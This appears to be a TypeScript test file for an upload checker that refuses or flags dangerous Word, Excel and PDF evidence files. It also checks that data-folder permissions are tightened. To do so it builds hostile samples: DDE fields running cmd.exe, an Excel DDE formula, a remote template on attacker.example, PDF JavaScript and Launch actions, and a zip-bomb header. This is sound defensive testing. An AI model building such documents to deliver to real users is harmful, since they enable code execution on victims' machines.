/**
 * Evidence uploads checked beyond their first bytes (issue 17), and rectify's
 * files its owner's alone.
 *
 * The check (web/evidence.ts) is called directly on real files: .docx and
 * .xlsx made by the `docx` and `exceljs` packages, then altered with a zip
 * library the way an attacker or a careless export would (a VBA project, a
 * macro-enabled main part, ActiveX, altChunk, an embedded OLE object, a
 * remote template, an xlsx renamed .docx, a directory claiming gigabytes);
 * PDFs written by hand with /OpenAction JavaScript, hex-escaped names, a
 * compressed object stream; an OLE .doc.
 *
 * Then `rectify up` as a person runs it, on a data folder an older version
 * left world-readable: a macro .docx posted through its form is refused, a
 * PDF with JavaScript is accepted and flagged where the reviewer looks (the
 * office page, the packet and the ledger, `closeout review`) and not to the contact; after
 * it stops, every folder it made is 0700 and every file 0600.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import path from 'node:path';
import zlib from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { simpleParser } from 'mailparser';
import { checkEvidence, type EvidenceVerdict } from '../web/evidence';
import { evidenceForContact, evidenceForReviewer, readEvidenceRef, uploadRef } from '../domain/evidence';
import { signLink } from '../config/links';
import { BIN, eventually, freePort, rectify, tempDir } from './support/cli';

const MAX = 10 * 1048576;
const dir = tempDir('evidence');
let n = 0;
/** The check on these bytes, kept in a file as an upload would be. */
async function check(name: string, content: Buffer, lang: 'zh' | 'en' = 'zh'): Promise<EvidenceVerdict> {
  const file = path.join(dir, `upload-${n += 1}`);
  writeFileSync(file, content);
  return checkEvidence(file, name, lang, MAX);
}
const refusedWith = (v: EvidenceVerdict): string => (v.ok ? `accepted (${v.flags.join(',')})` : v.reason);

const docx = (): Promise<Buffer> => Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('整改完成情况说明')] }] }));
async function xlsx(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('台账').addRow(['序号', '整改情况']);
  return Buffer.from(await wb.xlsx.writeBuffer());
}
/** A package altered: `edit` changes the zip (parts added, content types rewritten). */
async function altered(base: Buffer, edit: (zip: JSZip, types: string) => Promise<string | void> | string | void, compression: 'DEFLATE' | 'STORE' = 'DEFLATE'): Promise<Buffer> {
  const zip = await JSZip.loadAsync(base);
  const types = await zip.file('[Content_Types].xml')!.async('string');
  const next = await edit(zip, types);
  if (typeof next === 'string') zip.file('[Content_Types].xml', next);
  return zip.generateAsync({ type: 'nodebuffer', compression });
}
const withOverride = (types: string, part: string, type: string): string => types.replace('</Types>', `<Override PartName="${part}" ContentType="${type}"/></Types>`);
async function withDocumentRels(zip: JSZip, rel: string): Promise<void> {
  const file = 'word/_rels/document.xml.rels';
  const rels = await zip.file(file)!.async('string');
  zip.file(file, rels.replace('</Relationships>', `${rel}</Relationships>`));
}
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A PDF with a correct cross-reference table: `objects` numbered from 1, the first the catalog. */
function pdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  const size = () => parts.reduce((s, b) => s + b.length, 0);
  objects.forEach((o, i) => {
    offsets.push(size());
    parts.push(Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), typeof o === 'string' ? Buffer.from(o, 'latin1') : o, Buffer.from('\nendobj\n', 'latin1'));
  });
  const xref = size();
  parts.push(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`
    + `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}
const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'];
const PLAIN_PDF = pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES]);
const JS_PDF = pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']);

describe('Word and Excel files: the package, read from its directory and content types', () => {
  test('a plain .docx and a plain .xlsx, as the docx and exceljs packages write them, are accepted without flags', async () => {
    expect(await check('说明.docx', await docx())).toEqual({ ok: true, flags: [] });
    expect(await check('台账.xlsx', await xlsx())).toEqual({ ok: true, flags: [] });
  });

  test('macros are refused: a VBA project added to a .docx, a macro-enabled main part (a .docm renamed), an Excel 4 macro sheet', async () => {
    const vba = await altered(await docx(), (zip, types) => {
      zip.file('word/vbaProject.bin', randomBytes(512));
      return withOverride(types, '/word/vbaProject.bin', 'application/vnd.ms-office.vbaProject');
    });
    expect(refusedWith(await check('宏.docx', vba))).toBe('宏.docx：含宏（VBA 或宏表），不予接收；请另存为不含宏的 .docx 或 PDF 后上传');
    const docm = await altered(await docx(), (_zip, types) => types.replace('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'));
    expect(refusedWith(await check('report.docx', docm, 'en'))).toMatch(/^report\.docx: contains macros/);
    const vbaOnly = await altered(await docx(), (zip) => { zip.file('word/vbaProject.bin', randomBytes(64)); });
    expect(refusedWith(await check('x.docx', vbaOnly))).toContain('含宏');
    const macroSheet = await altered(await xlsx(), (zip, types) => {
      zip.file('xl/macrosheets/sheet2.xml', '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>');
      return withOverride(types, '/xl/macrosheets/sheet2.xml', 'application/vnd.ms-excel.macrosheet+xml');
    });
    expect(refusedWith(await check('台账.xlsx', macroSheet))).toContain('台账.xlsx：含宏');
  });

  test('ActiveX controls and altChunk (foreign content Word converts on opening) are refused', async () => {
    const activeX = await altered(await docx(), (zip, types) => {
      zip.file('word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>');
      return withOverride(types, '/word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml');
    });
    expect(refusedWith(await check('控件.docx', activeX))).toBe('控件.docx：含 ActiveX 控件，不予接收；请删除控件或另存为 PDF 后上传');
    const altChunk = await altered(await docx(), async (zip, types) => {
      zip.file('word/afchunk.rtf', '{\\rtf1\\ansi {\\object\\objemb {\\*\\objdata 0105000002000000}}}');
      await withDocumentRels(zip, `<Relationship Id="rIdX" Type="${R}/aFChunk" Target="afchunk.rtf"/>`);
      return types.replace('</Types>', '<Default Extension="rtf" ContentType="application/rtf"/></Types>');
    });
    expect(refusedWith(await check('chunk.docx', altChunk, 'en'))).toMatch(/^chunk\.docx: contains foreign content \(altChunk\).*save it as \.docx again/);
  });

  test('DDE fields in Word (simple, or split across runs) and DDE formulas in Excel are refused; ordinary fields and formulas are not', async () => {
    const withBody = (xml: string) => async (zip: JSZip) => {
      const doc = await zip.file('word/document.xml')!.async('string');
      zip.file('word/document.xml', doc.replace(/<w:body>/, `<w:body>${xml}`));
    };
    const simple = await altered(await docx(), withBody(`<w:p><w:fldSimple w:instr='DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`));
    expect(refusedWith(await check('dde.docx', simple))).toBe('dde.docx：含 DDE 字段或公式（可运行外部程序），不予接收；请删除后上传，或另存为 PDF');
    const run = (inner: string) => `<w:r>${inner}</w:r>`;
    const split = await altered(await docx(), withBody(`<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${run('<w:instrText xml:space="preserve"> DD</w:instrText>')}${run('<w:instrText>EAUTO c:\\x.exe</w:instrText>')}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>1</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`));
    expect(refusedWith(await check('split.docx', split, 'en'))).toMatch(/^split\.docx: contains DDE fields or formulas/);
    const page = await altered(await docx(), withBody(`<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${run('<w:instrText> PAGE </w:instrText>')}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>DDEAUTO is only text here</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`));
    expect(await check('page.docx', page)).toEqual({ ok: true, flags: [] });
    const sheet = async (formula: string) => {
      const wb = new ExcelJS.Workbook();
      wb.addWorksheet('台账').getCell('A1').value = { formula, result: 0 } as ExcelJS.CellFormulaValue;
      return Buffer.from(await wb.xlsx.writeBuffer());
    };
    expect(refusedWith(await check('dde.xlsx', await sheet("cmd|' /C calc'!A0")))).toContain('dde.xlsx：含 DDE 字段或公式');
    expect(await check('sum.xlsx', await sheet('SUM(1,2)'))).toEqual({ ok: true, flags: [] });
  });

  test('a file of another kind under the name: an .xlsx renamed .docx, a .docx renamed .xlsx, a zip that is no Office file', async () => {
    expect(refusedWith(await check('报告.docx', await xlsx()))).toBe('报告.docx：文件实为 .xlsx 文件，与扩展名 .docx 不符');
    expect(refusedWith(await check('sheet.xlsx', await docx(), 'en'))).toBe('sheet.xlsx: this is in fact a .docx file, not a .xlsx');
    const zip = new JSZip();
    zip.file('readme.txt', 'hello');
    expect(refusedWith(await check('a.docx', await zip.generateAsync({ type: 'nodebuffer' })))).toBe('a.docx：文件内容与类型 .docx 不符');
    expect(refusedWith(await check('cut.docx', (await docx()).subarray(0, 300)))).toBe('cut.docx：文件已损坏，无法作为 .docx 读取');
  });

  test('embedded OLE objects and outside content are accepted, flagged for the reviewer; hyperlinks are not flagged', async () => {
    const ole = await altered(await docx(), async (zip, types) => {
      zip.file('word/embeddings/oleObject1.bin', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(500)]));
      await withDocumentRels(zip, `<Relationship Id="rIdO" Type="${R}/oleObject" Target="embeddings/oleObject1.bin"/>`);
      return types.replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>');
    });
    expect(await check('嵌入.docx', ole)).toEqual({ ok: true, flags: ['embedded-object'] });
    const link = await altered(await docx(), (zip) => withDocumentRels(zip, `<Relationship Id="rIdH" Type="${R}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>`));
    expect(await check('链接.docx', link)).toEqual({ ok: true, flags: [] });
    // A remote template, its TargetMode written with a character reference as Word would read it.
    const template = await altered(await docx(), async (zip) => {
      zip.file('word/_rels/settings.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="&#69;xternal"/></Relationships>`);
    });
    expect(await check('模板.docx', template)).toEqual({ ok: true, flags: ['external-content'] });
  });

  test('a zip bomb is refused from its directory, before anything is inflated: sizes claimed, and too many parts', async () => {
    // The directory says one part unpacks to 4 GB (the data itself is small: nothing is inflated to find out).
    const base = await altered(await docx(), (zip) => { zip.file('word/media/big.bin', Buffer.alloc(1000)); });
    const cd = base.lastIndexOf(Buffer.from('word/media/big.bin')) - 46;
    expect(base.readUInt32LE(cd)).toBe(0x02014b50);
    base.writeUInt32LE(0xfffffff0, cd + 24);
    expect(refusedWith(await check('炸弹.docx', base))).toBe('炸弹.docx：文件解压后过大（超过 200 MB）或部件过多（超过 10000 个），不予接收');
    const many = await altered(await docx(), (zip) => { for (let i = 0; i < 10_001; i += 1) zip.file(`word/media/p${i}.txt`, ''); }, 'STORE');
    expect(refusedWith(await check('many.docx', many, 'en'))).toMatch(/^many\.docx: unpacked it would exceed 200 MB or 10000 parts: refused$/);
  });

  test('old OLE formats are refused with what to send instead; an OLE file named .docx (encrypted or old) too', async () => {
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]);
    expect(refusedWith(await check('旧版.doc', ole))).toBe('旧版.doc：.doc 格式可能含无法检查的宏，不予接收；请另存为 .docx 或 PDF 后上传');
    expect(refusedWith(await check('old.xls', ole, 'en'))).toBe('old.xls: .xls files can carry macros that cannot be checked; save it as .xlsx or PDF and upload that');
    expect(refusedWith(await check('加密.docx', ole))).toBe('加密.docx：文件已加密或为旧版格式，无法检查；请去除密码并另存为 .docx 后上传');
  });
});

describe('PDF files: actions and active content flagged, names decoded', () => {
  test('a plain PDF has no flags; one with /OpenAction JavaScript is accepted and flagged', async () => {
    expect(await check('a.pdf', PLAIN_PDF)).toEqual({ ok: true, flags: [] });
    const v = await check('学习制度.pdf', JS_PDF);
    expect(v.ok && [...v.flags].sort()).toEqual(['auto-action', 'javascript']);
  });

  test('hex-escaped names (/J#61vaScript) and every other active name are found; /JSON, /AAPL are not', async () => {
    const escaped = pdf(['<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (x) >> >>', ...PAGES]);
    const v = await check('e.pdf', escaped);
    expect(v.ok && [...v.flags].sort()).toEqual(['auto-action', 'javascript']);
    const all = pdf([
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> /AcroForm << /XFA 5 0 R >> >>', ...PAGES,
      '<< /Names [(a) << /Type /Filespec /EF << /F 6 0 R >> >>] >>', '<< /Length 0 >>\nstream\n\nendstream',
      '<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream',
      '<< /Type /Annot /Subtype /RichMedia /A << /S /Launch /F (cmd.exe) >> /AA << >> >>',
    ]);
    const w = await check('all.pdf', all);
    expect(w.ok && [...w.flags].sort()).toEqual(['auto-action', 'embedded-file', 'launch', 'rich-media', 'xfa']);
    const lookalikes = pdf(['<< /Type /Catalog /Pages 2 0 R /JSON (1) /AAPL 1 /JavaScripts 2 /Font << /F1 3 0 R >> >>', ...PAGES]);
    expect(await check('l.pdf', lookalikes)).toEqual({ ok: true, flags: [] });
  });

  test('names inside compressed object streams are found; a name across the reading buffers too', async () => {
    const inner = Buffer.from('4 0 << /Type /Catalog /Pages 2 0 R /Open#41ction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>', 'latin1');
    const data = zlib.deflateSync(inner);
    const objStm = Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
    expect(data.includes(Buffer.from('JavaScript'))).toBe(false);
    const v = await check('objstm.pdf', pdf([objStm, ...PAGES]));
    expect(v.ok && [...v.flags].sort()).toEqual(['auto-action', 'javascript']);
    // The scan reads 1 MB at a time: /JavaScript written across the first boundary.
    const head = Buffer.from('%PDF-1.7\n%', 'latin1');
    const pad = Buffer.alloc(1048576 - 5 - head.length - '\n<< /S '.length, 0x41);
    const across = Buffer.concat([head, pad, Buffer.from('\n<< /S /JavaScript (x) >>\n%%EOF\n', 'latin1')]);
    expect(across.indexOf('/JavaScript')).toBeLessThan(1048576);
    expect(across.indexOf('/JavaScript') + 11).toBeGreaterThan(1048576);
    expect(await check('across.pdf', across)).toEqual({ ok: true, flags: ['javascript'] });
    // An object stream that cannot be read (another filter, damaged data): flagged as not fully checked.
    const lzw = Buffer.concat([Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 8 >>\nstream\n', 'latin1'), randomBytes(8), Buffer.from('\nendstream', 'latin1')]);
    expect(await check('lzw.pdf', pdf([lzw, ...PAGES]))).toEqual({ ok: true, flags: ['unchecked'] });
    const broken = Buffer.concat([Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 8 >>\nstream\n', 'latin1'), Buffer.from('notzlib!'), Buffer.from('\nendstream', 'latin1')]);
    expect(await check('broken.pdf', pdf([broken, ...PAGES]))).toEqual({ ok: true, flags: ['unchecked'] });
  });

  test('pictures by their first bytes, as before; a script named .pdf is refused', async () => {
    expect(await check('a.png', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(64)]))).toEqual({ ok: true, flags: [] });
    expect(await check('a.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(64)]))).toEqual({ ok: true, flags: [] });
    expect(refusedWith(await check('x.pdf', Buffer.from('<script>alert(1)</script>')))).toBe('x.pdf：文件内容与类型 .pdf 不符');
  });
});

test('an evidence reference keeps its flags; older references read as before; the contact sees none of them', () => {
  const ref = uploadRef('学习制度.pdf', 'c/1/ab.pdf', ['auto-action', 'javascript']);
  expect(ref).toBe('学习制度.pdf [upload:c/1/ab.pdf] [flags:auto-action,javascript]');
  expect(readEvidenceRef(ref)).toEqual({ text: '学习制度.pdf [upload:c/1/ab.pdf]', upload: 'c/1/ab.pdf', flags: ['auto-action', 'javascript'] });
  expect(evidenceForReviewer(ref, 'zh')).toBe('学习制度.pdf [upload:c/1/ab.pdf] ⚠ 含自动执行动作（打开文档或页面时触发）；含 JavaScript 脚本');
  expect(evidenceForContact(ref)).toBe('学习制度.pdf [upload:c/1/ab.pdf]');
  const old = '学习制度.pdf [upload:c/1/ab.pdf]';
  expect(readEvidenceRef(old)).toEqual({ text: old, upload: 'c/1/ab.pdf', flags: [] });
  expect(evidenceForReviewer(old, 'zh')).toBe(old);
  expect(evidenceForReviewer('文号 党工委〔2026〕3号', 'en')).toBe('文号 党工委〔2026〕3号');
});

// ── rectify up, end to end ─────────────────────────────────────────────────

describe('rectify up: uploads through its form, flags where the reviewer looks, and private files', () => {
  const KEY = randomBytes(32).toString('hex');
  const OFFICE_TOKEN = randomBytes(24).toString('hex');
  const CAMPAIGN = 'harbor-audit-2026';
  const data = path.join(tempDir('evidence-up'), 'data');
  const out = tempDir('evidence-out');
  let up: ChildProcess;
  let said = '';
  let env: NodeJS.ProcessEnv;
  let base: string;
  let url: string;

  beforeAll(async () => {
    // A data folder an older version left open to everyone, with a file in it.
    mkdirSync(data, { recursive: true });
    chmodSync(data, 0o755);
    writeFileSync(path.join(data, 'old-note.txt'), 'made before\n', { mode: 0o644 });
    const [port, smtp, web] = [await freePort(), await freePort(), await freePort()];
    base = `http://127.0.0.1:${web}`;
    env = { RECTIFY_DATA: data, RECTIFY_LINK_KEY: KEY, RECTIFY_OFFICE_TOKEN: OFFICE_TOKEN, RECTIFY_LANG: 'zh', TEMPORAL_ADDRESS: `127.0.0.1:${port}`, TEMPORAL_NAMESPACE: 'default' };
    // The receipt is what this looks at, whatever the hour the test runs at (receipts otherwise wait for working hours).
    const campaign = path.join(tempDir('evidence-campaign'), 'small-campaign.yaml');
    writeFileSync(campaign, readFileSync(path.join(__dirname, '..', 'examples', 'small-campaign.yaml'), 'utf8').replace(/^cadence:\n/m, 'cadence:\n  receiptsAtOnce: true\n'));
    up = spawn(process.execPath, [BIN, 'up', '--campaign', campaign, '--port', String(port), '--smtp-port', String(smtp), '--web-port', String(web)], {
      env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'],
    });
    up.stdout!.on('data', (b: Buffer) => { said += b.toString(); });
    up.stderr!.on('data', (b: Buffer) => { said += b.toString(); });
    await eventually('rectify up running', async () => said.includes('rectify 已在本机运行') || (up.exitCode !== null && Promise.reject(new Error(said))), 120000);
    const token = signLink(Buffer.from(KEY, 'utf8'), { campaign: CAMPAIGN, item: '(1)', name: 'Farid Khan', email: 'farid.khan@example.org', expiresAt: Date.now() + 3600e3 });
    url = `${base}/f/${token}`;
    await eventually('the form of item (1)', async () => (await fetch(url)).status === 200 && (await form()).csrf !== '', 60000);
  }, 200000);

  afterAll(async () => {
    if (up && up.exitCode === null) {
      const exited = new Promise((r) => up.once('exit', r));
      up.kill('SIGINT');
      await exited;
    }
  });

  async function form(): Promise<{ cookie: string; csrf: string; nonce: string }> {
    const r = await fetch(url);
    const body = await r.text();
    const hidden = (name: string) => new RegExp(`name="${name}" value="([^"]*)"`).exec(body)?.[1] ?? '';
    return { cookie: (r.headers.get('set-cookie') ?? '').split(';')[0], csrf: hidden('csrf'), nonce: hidden('nonce') };
  }
  async function post(fields: Record<string, string>, files: { name: string; content: Buffer }[]): Promise<{ status: number; body: string }> {
    const f = await form();
    const fd = new FormData();
    for (const [k, v] of Object.entries({ csrf: f.csrf, nonce: f.nonce, ...fields })) fd.append(k, v);
    for (const file of files) fd.append('files', new Blob([new Uint8Array(file.content)]), file.name);
    const r = await fetch(url, { method: 'POST', body: fd, headers: { cookie: f.cookie } });
    return { status: r.status, body: await r.text() };
  }
  const uploads = path.join(data, 'uploads', CAMPAIGN, '1');

  test('a .docx carrying a VBA project, posted through the form, is refused naming the file; nothing is kept', async () => {
    const macro = await altered(await docx(), (zip, types) => {
      zip.file('word/vbaProject.bin', randomBytes(512));
      return withOverride(types, '/word/vbaProject.bin', 'application/vnd.ms-office.vbaProject');
    });
    const r = await post({ action: 'report', progress: 'minutes published' }, [{ name: 'minutes.docx', content: macro }]);
    expect(r.status).toBe(422);
    // The campaign speaks English: the form does too.
    expect(r.body).toContain('minutes.docx: contains macros (VBA or macro sheets): refused');
    expect(existsSync(uploads) ? readdirSync(uploads) : []).toEqual([]);
  });

  test('a PDF with JavaScript is accepted; the office page, the packet, the ledger and closeout review warn the reviewer; the contact is not warned', async () => {
    const report = await post({ action: 'report', progress: 'Backlog of minutes published', percent: '60' }, [{ name: 'minutes.pdf', content: JS_PDF }]);
    expect(report.status).toBe(200);
    // The contact's page lists the file as given, without the reviewer's warning.
    expect(report.body).toMatch(/<li>minutes\.pdf \[upload:harbor-audit-2026\/1\/[0-9a-f]{20}\.pdf\]<\/li>/);
    for (const word of ['⚠', 'JavaScript', 'flags:']) expect(report.body).not.toContain(word);
    const receipt = await eventually('the receipt, kept as an .eml', async () => {
      const dirMail = path.join(data, 'mail');
      for (const f of existsSync(dirMail) ? readdirSync(dirMail) : []) {
        const m = await simpleParser(readFileSync(path.join(dirMail, f)));
        if (m.subject?.startsWith('[Receipt]')) return m.text ?? '';
      }
      return undefined;
    });
    // The contact's receipt names the file, never its storage key nor the reviewer's flags.
    expect(receipt).toMatch(/evidence: minutes\.pdf\n/);
    expect(receipt).not.toContain('[upload:');
    expect(receipt).not.toContain('flags:');

    const r = await post({
      action: 'closeout', solved: 'Backlog published', cause: 'No rule existed', noneNeeded: '1', causeEvidence: 'Board minute 2026/4',
      similar: 'Other committees checked', similarEvidence: 'Checklist 7', mechanism: 'Ten-day rule adopted', mechanismEvidence: 'Rule 2026-2',
    }, [{ name: 'minutes.pdf', content: JS_PDF }]);
    expect(r.status).toBe(200);
    expect(r.body).toContain('id="outcome"');
    expect(r.body).not.toContain('⚠');
    expect(r.body).not.toContain('JavaScript');

    const office = await (await fetch(`${base}/office?campaign=${CAMPAIGN}`, { headers: { authorization: `Bearer ${OFFICE_TOKEN}` } })).text();
    const reviews = office.slice(office.indexOf('id="reviews"'));
    expect(office).toContain('待验收的销号申请');
    // The file by its name, as a download link to the item's file (web/office.ts), with the warning beside it.
    expect(reviews).toMatch(/<a href="\/office\/items\/\(1\)\/files\/[0-9a-f]{20}\.pdf" download>minutes\.pdf<\/a> <span class="warn" data-flagged>⚠ 含自动执行动作（打开文档或页面时触发）；含 JavaScript 脚本<\/span>/);

    const packetFile = path.join(out, 'packet-1.html');
    const packet = await rectify(['packet', '(1)', '--out', packetFile], env);
    expect([packet.code, packet.stderr]).toEqual([0, '']);
    expect(readFileSync(packetFile, 'utf8')).toContain('minutes.pdf [upload:harbor-audit-2026/1/');
    expect(readFileSync(packetFile, 'utf8')).toContain('⚠ 含自动执行动作（打开文档或页面时触发）；含 JavaScript 脚本');
    // The document written with --out is its owner's alone too (the CLI's umask).
    expect((statSync(packetFile).mode & 0o777).toString(8)).toBe('600');
    // So is the working group's ledger, with the warning in the close-out's evidence.
    const ledgerFile = path.join(out, 'ledger.csv');
    expect((await rectify(['export', 'ledger', '--out', ledgerFile], env)).code).toBe(0);
    expect(readFileSync(ledgerFile, 'utf8')).toContain('⚠ 含自动执行动作（打开文档或页面时触发）；含 JavaScript 脚本');

    const review = await rectify(['closeout', 'review', '(1)', '--accept', '--by', 'Isla Reid'], env);
    expect(review.code).toBe(0);
    expect(review.stdout).toMatch(/佐证材料：minutes\.pdf \[upload:harbor-audit-2026\/1\/[0-9a-f]{20}\.pdf\] ⚠ 含自动执行动作（打开文档或页面时触发）；含 JavaScript 脚本/);
  }, 120000);

  test('after rectify up stops, every folder of the data folder is 0700 and every file 0600; the open folder was closed with a warning', async () => {
    const exited = new Promise((r) => up.once('exit', r));
    up.kill('SIGINT');
    await exited;
    expect(said).toContain(`rectify：数据文件夹 ${data} 原可被其他用户读取（755），已改为 700`);
    const modes: string[] = [];
    const walk = (d: string): void => {
      for (const name of readdirSync(d)) {
        const p = path.join(d, name);
        const st = statSync(p);
        modes.push(`${path.relative(data, p)} ${(st.mode & 0o777).toString(8)}`);
        if (st.isDirectory()) walk(p);
      }
    };
    walk(data);
    const made = modes.filter((m) => !m.startsWith('old-note.txt '));
    // What was written: uploads, the mail sink's .eml files, events, sent-mail markers, the Temporal database.
    for (const part of ['uploads ', 'mail ', 'events.jsonl ', 'sent ', 'temporal.sqlite ']) expect(made.some((m) => m.startsWith(part))).toBe(true);
    expect(made.some((m) => /^mail\/.+\.eml /.test(m))).toBe(true);
    expect(made.some((m) => /^uploads\/harbor-audit-2026\/1\/[0-9a-f]{20}\.pdf /.test(m))).toBe(true);
    const wrong = made.filter((m) => {
      const [p, mode] = m.split(' ');
      return statSync(path.join(data, p)).isDirectory() ? mode !== '700' : mode !== '600';
    });
    expect(wrong).toEqual([]);
    expect((statSync(data).mode & 0o777).toString(8)).toBe('700');
  }, 60000);
});
